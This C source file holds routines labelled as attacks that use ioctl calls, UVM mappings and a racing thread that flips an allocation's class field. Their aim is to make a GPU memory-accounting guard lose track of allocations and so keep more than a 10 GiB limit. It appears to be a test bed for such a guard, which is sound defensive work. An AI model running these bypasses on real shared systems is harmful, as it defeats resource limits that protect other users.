/* Calls after which a ledger of calls would have something else than the driver: handles that are taken, calls that change after they
 * were looked at, many pieces that go at once. */
#include "attack.h"

#include <stdatomic.h>

/* phantom: a device is allocated under the handle of a piece that UVM has mapped, and the piece is freed: the driver refuses the
 * first, and a guard that forgets the piece for it does not look at the second. */
void attack_phantom (int argc, char **argv)
{
    struct bed bed = bed_open ();
    struct uvm uvm = uvm_begin (&bed, false);
    uint32_t device[14] = { 0 }, handle, kept = 0;

    (void) argc, (void) argv;
    for (unsigned i = 0; i < 20 && bed_memory (&bed, &handle, GIB) == 0; i++) {
        kept += uvm_map (&uvm, &bed, i, handle, GIB) == 0;
        if (i == 0)
            say ("taken", bed_alloc (&bed, bed.client, handle, 0x80, device));
        else
            bed_alloc (&bed, bed.client, handle, 0x80, device);
        bed_free (&bed, handle);
    }
    say ("kept", kept);
    hold ();
}

static atomic_bool stop;

static void *flipping (void *argument)
{
    volatile uint32_t *class = argument;

    for (unsigned i = 0; !atomic_load (&stop); i++)
        *class = i & 1 ? 0x40 : 0x80;
    return NULL;
}

/* race-free ROUNDS WAY: a device that becomes video memory is mapped by UVM and freed: 0 by its handle, 1 with a device, 2 with the
 * file; 3 by its handle, and what was not won is not freed. How much more than 10 GiB is kept so? `kept` is said of each piece: a guard
 * ends the program. */
void attack_race_free (int argc, char **argv)
{
    unsigned rounds = argc > 0 ? (unsigned) atoi (argv[0]) : 100, way = argc > 1 ? (unsigned) atoi (argv[1]) : 0, kept = 0;
    struct bed bed = bed_open (), second = bed;
    struct uvm uvm = uvm_begin (&bed, false);
    struct memory params = memory_of (GIB);
    struct alloc call = { .number = 0x80, .params = (uintptr_t) &params };
    uint32_t device[14] = { 0 };
    pthread_t thread;

    pthread_create (&thread, NULL, flipping, &call.number);
    for (unsigned i = 0; i < rounds && kept < 30; i++) {
        if (way == 1)
            bed_alloc (&second, second.client, second.device = second.next++, 0x80, device);
        if (way == 2)
            second = bed_open ();
        call.client = second.client;
        call.parent = second.device;
        call.object = second.next++;
        call.status = 0xffff;
        bool is_kept = ioctl (second.file, REQUEST (0x2b, sizeof (call)), &call) == 0 && call.status == 0 &&
                       uvm_map (&uvm, &second, kept, call.object, GIB) == 0;

        if (is_kept)
            say ("kept", ++kept);
        if (way == 2) {
            close (second.file);
            close (second.node);
        } else if (way != 3 || is_kept)
            bed_free (&second, way == 1 ? second.device : call.object);
    }
    atomic_store (&stop, true);
    pthread_join (thread, NULL);
    say ("beyond", kept > 10 ? kept - 10 : 0);
    hold ();
}

/* uvm-batch: small pieces below a device of their own go with it, all at once. */
void attack_uvm_batch (int argc, char **argv)
{
    struct bed bed = bed_open ();
    struct uvm uvm = uvm_begin (&bed, false);
    uint32_t device[14] = { 0 }, zero = 0, handle, kept = 0, other = bed.next++, first = bed.device;

    (void) argc, (void) argv;
    bed_alloc (&bed, bed.client, other, 0x80, device);
    bed_alloc (&bed, other, bed.next++, 0x2080, &zero);
    bed.device = other;
    for (unsigned i = 0; i < 1024 && bed_memory (&bed, &handle, 64 << 10) == 0; i++)
        kept += uvm_map (&uvm, &bed, i, handle, 64 << 10) == 0;
    say ("kept", kept);
    bed.device = first;
    say ("freed", bed_free (&bed, other));
    hold ();
}
